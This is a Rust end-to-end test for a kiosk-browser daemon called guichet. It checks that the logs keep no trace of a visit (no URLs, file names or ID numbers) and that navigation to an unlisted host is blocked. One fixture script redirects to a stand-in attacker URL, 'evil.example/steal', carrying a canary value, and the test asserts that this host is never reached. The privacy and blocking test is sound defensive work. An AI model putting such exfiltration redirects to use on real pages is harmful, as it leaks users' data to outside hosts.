//! The journal keeps no trail of a person's visit, proven with the real view and guichetd.
//!
//! One session visits two services, is blocked once, downloads a document and prints, then
//! ends. At the default level the combined logs of guichetd and the view (the view's records
//! reach the journal through guichetd) name none of the hosts, not the file, and hold no line
//! about the visit; at `debug` the hosts may appear (that is where an admin chasing a bug
//! looks), but never a URL, a query or the file's name.

mod support;

use guichet::daemon::machine::State;
use support::{e2e_lock, eventually, Daemon, Reply, TestConfig, World};

const FIRST: &str = "www.myminfin.be";
const SECOND: &str = "www.mypension.be";
const BLOCKED: &str = "evil.example";
const FILE: &str = "Avertissement-extrait-de-role-Canary7f3a.pdf";
/// The second service's page fills the content area with this colour until it is replaced
/// by guichet's blocked page.
const GREY: &str = "7F7F7F";

fn world() -> World {
    World::new(TestConfig {
        start_url: Some(format!("http://{FIRST}/start?nn=85073100123")),
        extra: vec![format!("http://{FIRST}"), format!("http://{SECOND}")],
        allow_http: vec![FIRST.into(), SECOND.into()],
        ..TestConfig::default()
    })
}

fn daemon(world: &World, level: &str) -> Daemon {
    let mut b = world.daemon_builder();
    b.env.push(("RUST_LOG".into(), level.into()));
    b.start()
}

/// The first service prints; the person clicks its document link (a download must start
/// with the person's click), then clicks again to go to the second service, which tries to
/// leave for a host no rule lists.
fn route(world: &World) {
    world.proxy.route(
        FIRST,
        "/start",
        Reply::html(format!(
            r#"<!doctype html><title>Avertissement-extrait Canary7f3a</title>
<body style="margin:0">
<a href="/document?nn=85073100123"
  style="position:fixed;inset:0;display:block;background:#dfe">document</a>
<script>
window.print();
fetch("/printed");
let clicks = 0;
document.querySelector("a").addEventListener("click", (e) => {{
  if (++clicks > 1) {{
    e.preventDefault();
    location.href = "http://{SECOND}/form?q=Canary7f3a";
  }}
}});
</script>"#
        )),
    );
    world.proxy.route(FIRST, "/printed", Reply::html("ok"));
    world.proxy.route(
        FIRST,
        "/document",
        Reply::attachment(FILE, b"%PDF-1.4 Canary7f3a".to_vec()),
    );
    world.proxy.route(
        SECOND,
        "/form",
        Reply::html(format!(
            r#"<!doctype html><body style="margin:0;background:#{GREY}">
<script>
fetch("/loaded").then(() => {{ location.href = "http://{BLOCKED}/steal?q=Canary7f3a"; }});
</script>"#
        )),
    );
    world.proxy.route(SECOND, "/loaded", Reply::html("ok"));
}

/// Runs the visit at `level` and returns guichetd's logs (the view's included).
fn visit(level: &str) -> String {
    let world = world();
    route(&world);
    let d = daemon(&world, level);
    d.wait_state(State::Welcome);
    world.proxy.wait_path(FIRST, "/printed");
    // The person's click on the document link, in the content view.
    world.xvfb.click(640, 450, 1);
    world.proxy.wait_path(FIRST, "/document");
    // The document is in the session before the page moves on (a navigation started while
    // the document's answer is still on its way would cancel the download).
    eventually("the download landed", || {
        downloads_of(&d).iter().any(|n| n.contains("Canary7f3a"))
    });
    // A second click takes the person to the second service; the blocked page replaces it.
    world.xvfb.click(640, 450, 1);
    world.proxy.wait_path(SECOND, "/loaded");
    world.xvfb.poll_crop(
        &format!("logs-{}-blocked", level.replace('=', "-")),
        (0, 200, 1280, 400),
        &["-format", "%k", "info:"],
        |out| out.trim() != "1",
        |out| format!("the second service's page was never replaced ({out} colours)"),
    );
    assert!(
        !world.proxy.saw_host(BLOCKED),
        "the blocked host was reached"
    );
    d.reset_now_and_wait();
    d.logs()
}

/// File names in every session's downloads folder.
fn downloads_of(d: &Daemon) -> Vec<String> {
    let Ok(sessions) = std::fs::read_dir(d.runtime.join("sessions")) else {
        return Vec::new();
    };
    sessions
        .flatten()
        .filter_map(|s| std::fs::read_dir(s.path().join("downloads")).ok())
        .flat_map(|dl| dl.flatten())
        .map(|f| f.file_name().to_string_lossy().into_owned())
        .collect()
}

/// Never at any level: a URL, a path or query of the visit, the file, the page's title.
fn assert_no_url_or_data(logs: &str) {
    for bad in [
        "Canary7f3a",
        "85073100123",
        "Avertissement",
        "http://",
        "/start",
        "/form",
        "/document",
        "/steal",
        "?q=",
    ] {
        assert!(!logs.contains(bad), "{bad:?} in the logs:\n{logs}");
    }
}

#[test]
fn the_journal_keeps_no_trail_of_a_visit_at_the_default_level() {
    let _lock = e2e_lock();
    // The checkout's own path (in guichetd's warning about the test view) may hold any word,
    // e.g. a build folder named after a branch: it is not the visit's.
    let logs = visit("info").replace(env!("CARGO_BIN_EXE_guichet-view"), "<view>");
    assert!(logs.contains("wipe ok"), "{logs}");
    assert_no_url_or_data(&logs);
    for trail in [
        FIRST, SECOND, BLOCKED, "navigat", "blocked", "download", "print", "logout", "taxes",
    ] {
        assert!(
            !logs.to_lowercase().contains(trail),
            "{trail:?} follows the visit in the logs:\n{logs}"
        );
    }
}

#[test]
fn at_debug_the_hosts_may_appear_but_never_a_url_or_the_file() {
    let _lock = e2e_lock();
    let logs = visit("guichet=debug");
    // The same visit, seen at debug: proof that the default-level test ran a real visit.
    for host in [FIRST, SECOND, BLOCKED] {
        assert!(logs.contains(host), "{host} not in the debug logs:\n{logs}");
    }
    assert_no_url_or_data(&logs);
}
